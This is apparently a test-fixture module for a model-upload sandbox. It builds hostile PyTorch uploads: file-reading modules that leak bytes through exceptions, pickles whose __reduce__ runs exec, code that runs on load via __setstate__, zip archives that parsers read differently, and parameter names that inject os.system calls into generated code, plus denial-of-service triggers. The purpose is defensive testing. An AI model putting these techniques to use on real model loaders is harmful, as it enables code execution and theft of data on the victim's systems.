"""Uploads an attacker would try, shared by the layer-one tests
(tests/nadcore/uploaded/test_untrusted.py) and the sandbox tests through the service
(tests/service/test_sandbox.py).

TorchScript needs the source of the classes it scripts, hence this module. Every model takes
1 x 16 x 16 inputs.
"""

from __future__ import annotations

import io
import json
import pickle
import re
import zipfile

import torch
from torch import nn

from nads.export_command import export_architecture
from tests.hostile_zips import members_of, write_zip

SHAPE = (1, 16, 16)
JOB_INPUTS = 50.0  # finite differences with the paper's scale (100) exceed this; N(0, I) not


class ReadsFile(nn.Module):
    """Reads a file with aten::from_file and raises its bytes (exfiltration through the
    rejection reason)."""

    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.path = path
        self.size = size
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        data = torch.from_file(self.path, size=self.size, dtype=torch.uint8)
        values: list[int] = data.tolist()
        raise RuntimeError("stolen " + str(values))


class WritesFile(nn.Module):
    """Writes 'A's into a file with aten::from_file(shared=True)."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        t = torch.from_file(self.path, shared=True, size=16, dtype=torch.uint8)
        t.fill_(65)
        return self.fc(x.flatten(1)) + t.float().sum() * 0.0


class SpinsAtJobInputs(nn.Module):
    """A plain network on N(0, I) inputs; loops (practically) forever on a job's inputs."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = x
        if bool(x.abs().max() > 50.0):
            for _ in range(1_000_000_000_000):
                y = y * 1.0
        return self.fc(y.flatten(1))


class AllocatesAtJobInputs(nn.Module):
    """A plain network on N(0, I) inputs; allocates 12 GB on a job's inputs."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        out = self.fc(x.flatten(1))
        if bool(x.abs().max() > 50.0):
            out = out + torch.ones(3_000_000_000).sum()
        return out


class NaNAtJobInputs(nn.Module):
    """A plain network on N(0, I) inputs; NaN on a job's inputs."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        out = self.fc(x.flatten(1))
        if bool(x.abs().max() > 50.0):
            out = out * float("nan")
        return out


class SetsState(nn.Module):
    """Runs code while torch.jit.load reads it (__setstate__): creates the file `marker`."""

    def __init__(self, marker: str = "/tmp/setstate-ran") -> None:
        super().__init__()
        self.marker = marker
        self.fc = nn.Linear(256, 1)

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.marker, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.training = state[1]
        self.marker = state[0]
        torch.save(torch.zeros(1), self.marker)  # aten::save: a file written while loading

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1))


class PreHookReads(nn.Module):
    """A plain forward; a forward pre-hook on the module itself reads `path` with
    aten::from_file and raises its bytes (no method's graph calls a top module's hooks)."""

    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.path = path
        self.size = size
        self.fc = nn.Linear(256, 1)
        self.register_forward_pre_hook(read_in_pre_hook)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1))


def read_in_pre_hook(module: PreHookReads, inputs: tuple[torch.Tensor]) -> None:
    data = torch.from_file(module.path, size=module.size, dtype=torch.uint8)
    values: list[int] = data.long().tolist()
    raise RuntimeError("stolen " + str(values))


class _Exec:
    """Unpickling it executes `code` (what a pickled weight in a .pt2 can do)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple:
        return (exec, (self.code,))


def lenet_pt2(folder) -> bytes:  # noqa: ANN001
    return export_architecture("lenet", SHAPE, folder / "lenet.pt2").read_bytes()


def rewrite_zip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """`data` (a zip) with the members whose name ends with a key replaced by its value."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            for suffix, new in replace.items():
                if info.filename.endswith(suffix):
                    body = new
            dst.writestr(info.filename, body)
    return out.getvalue()


def _member(data: bytes, suffix: str) -> bytes:
    z = zipfile.ZipFile(io.BytesIO(data))
    return z.read(next(n for n in z.namelist() if n.endswith(suffix)))


def pickled_weight_pt2(base: bytes, code: str) -> bytes:
    """A .pt2 whose first weight is marked `use_pickle` and holds a pickle that runs `code`."""
    config = json.loads(_member(base, "data/weights/model_weights_config.json"))
    first = next(iter(config["config"]))
    config["config"][first]["use_pickle"] = True
    path_name = config["config"][first]["path_name"]
    return rewrite_zip(base, {"data/weights/model_weights_config.json":
                              json.dumps(config).encode(),
                              f"data/weights/{path_name}": pickle.dumps(_Exec(code))})


def pickled_sample_inputs_pt2(base: bytes, code: str) -> bytes:
    """A .pt2 whose sample inputs (which torch.export.load unpickles) run `code`."""
    return rewrite_zip(base, {"data/sample_inputs/model.pt": pickle.dumps(_Exec(code))})


def edited_program_pt2(base: bytes, edit) -> bytes:  # noqa: ANN001
    """A .pt2 whose models/model.json is `edit(program_dict)`."""
    program = json.loads(_member(base, "models/model.json"))
    edit(program)
    return rewrite_zip(base, {"models/model.json": json.dumps(program).encode()})


# -- archives that readers disagree on (issue 25) ----------------------------------------------
def duplicate_weights_config_pt2(base: bytes, code: str) -> bytes:
    """A .pt2 holding data/weights/model_weights_config.json twice: first a copy marking the
    first weight `use_pickle` and pointing it to a pickle that runs `code`, last the clean copy
    (which Python's zipfile reads); plus as many padding entries of the layout's own names as
    make torch's reader (miniz's search of its sorted directory) find the forged copy."""
    members = members_of(base)
    root = members[0][0].split("/", 1)[0]
    config_name = f"{root}/data/weights/model_weights_config.json"
    clean = dict(members)[config_name]
    config = json.loads(clean)
    first = next(iter(config["config"]))
    config["config"][first]["use_pickle"] = True
    config["config"][first]["path_name"] = "weight_9999"
    forged = [(config_name, json.dumps(config).encode()),
              (f"{root}/data/weights/weight_9999", pickle.dumps(_Exec(code)))]
    for padding in range(64):
        pad = [(f"{root}/data/weights/weight_{10000 + i}", b"\0" * 4) for i in range(padding)]
        data = write_zip(forged + pad + members)
        reader = torch._C.PyTorchFileReader(io.BytesIO(data))
        if b"weight_9999" in bytes(reader.get_record(
                "data/weights/model_weights_config.json")):
            return data
    raise AssertionError("torch's reader found the clean copy at every padding")


def duplicate_code_torchscript(setstate_archive: bytes) -> bytes:
    """A TorchScript archive (of `SetsState`) whose code file is stored twice: the copy that
    defines `__setstate__` first, a copy without it last."""
    members = members_of(setstate_archive)
    out = []
    for name, body in members:
        if name.endswith(".py") and b"__setstate__" in body:
            out.append((name, body))
            body = body.replace(b"__setstate__", b"__setstate_x")
        out.append((name, body))
    return write_zip(out)


def continued_setstate_torchscript(setstate_archive: bytes) -> bytes:
    """A TorchScript archive (of `SetsState`) whose code spells `def \\` newline
    `__setstate__`: a text pattern misses it, TorchScript compiles it."""
    def continued(body: bytes) -> bytes:
        return re.sub(rb"def __setstate__", b"def \\\n    __setstate__", body)

    return write_zip([(name, continued(body) if name.endswith(".py") else body)
                      for name, body in members_of(setstate_archive)])


SLOW_SIZE_EXPRESSION = "9**9**9"  # plain arithmetic to a text pattern; sympify runs for minutes


def slow_expression_pt2(base: bytes) -> bytes:
    """A .pt2 whose symbolic sizes are a tower of powers (sympify computes 9**387420489)."""
    def edit(value: object) -> None:
        if isinstance(value, dict):
            for key in value:
                if key == "expr_str":
                    value[key] = SLOW_SIZE_EXPRESSION
                else:
                    edit(value[key])
        elif isinstance(value, list):
            for item in value:
                edit(item)

    return edited_program_pt2(base, edit)


class SleepsAtJobBatches(nn.Module):
    """A plain linear model on validation's N(0, I) batches; on a job's batches (128 inputs or
    more, as a training batch or a finite-difference block, of a job's inputs: |x| > 50, finite
    differences at the paper's scale) it loops for ever (`prim::Loop` of allow-listed
    element-wise ops, which count no FLOPs: its cost is estimated at ~0 s)."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = x
        if x.shape[0] >= 128 and bool(x.abs().max() > 50.0):
            for _ in range(1_000_000_000_000):
                y = y * 1.0
        return self.fc(y.flatten(1))


# -- names that torch writes into Python source (the .pt2's generated forward) ----------------
def _injection(marker: str) -> str:
    """A Python expression without dots (FX splits attribute paths on them) that creates
    `marker` (a path without dots)."""
    return f'getattr(__import__("os"),"system")("touch {marker}")'


def injected_parameter_name_pt2(base: bytes, marker: str) -> bytes:
    """A .pt2 (of LeNet) whose first parameter is named so that the `getattr(self.conv1, "...")`
    line torch.export's unlifting generates for it runs `touch marker` at every forward: FX
    writes the name between double quotes, unescaped."""
    name = "conv1.weight"
    forged = f'conv1.weight"if {_injection(marker)}>=0 else"weight'
    config = json.loads(_member(base, "data/weights/model_weights_config.json"))
    config["config"] = {(forged if k == name else k): v for k, v in config["config"].items()}
    program = json.loads(_member(base, "models/model.json"))
    for spec in program["graph_module"]["signature"]["input_specs"]:
        if spec.get("parameter", {}).get("parameter_name") == name:
            spec["parameter"]["parameter_name"] = forged
    return rewrite_zip(base, {"models/model.json": json.dumps(program).encode(),
                              "data/weights/model_weights_config.json":
                              json.dumps(config).encode()})


def injected_input_key_pt2(base: bytes, marker: str) -> bytes:
    """A .pt2 (of LeNet) whose input spec declares a keyword argument named so that the
    `{'key': arg}` dict torch's pytree codegen writes into forward runs `touch marker`."""
    def edit(program: dict) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(signature["in_spec"])
        args, kwargs = spec[1]["children_spec"]
        key = f"k':{_injection(marker)},'k2"
        kwargs["context"] = json.dumps([key])
        kwargs["children_spec"] = [{"type": None, "context": None, "children_spec": []}]
        args["children_spec"] = []
        signature["in_spec"] = json.dumps(spec)
    return edited_program_pt2(base, edit)


class Branches(nn.Module):
    """A plain network with a `torch.cond` of two allow-listed branches."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(256, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = torch.cond(x.sum() > -1e30, lambda a: a * 2.0, lambda a: a * 3.0, (x,))
        return self.fc(y.flatten(1))


def operator_argument_pt2(operator: str = "torch.ops.aten.uniform_.default") -> bytes:
    """A .pt2 of `Branches` whose cond takes `operator` (an `as_operator` argument, which the
    loader resolves by name) as both branches, called on the input: `aten::uniform_`, not on
    the allow-list, overwrites the caller's input with uniform noise in place."""
    program = torch.export.export(Branches().eval(), (torch.randn(2, *SHAPE),))
    buf = io.BytesIO()
    torch.export.save(program, buf)

    def edit(document: dict) -> None:
        for node in document["graph_module"]["graph"]["nodes"]:
            if node["target"] == "torch.ops.higher_order.cond":
                node["inputs"][1]["arg"] = {"as_operator": operator}
                node["inputs"][2]["arg"] = {"as_operator": operator}
    return edited_program_pt2(buf.getvalue(), edit)
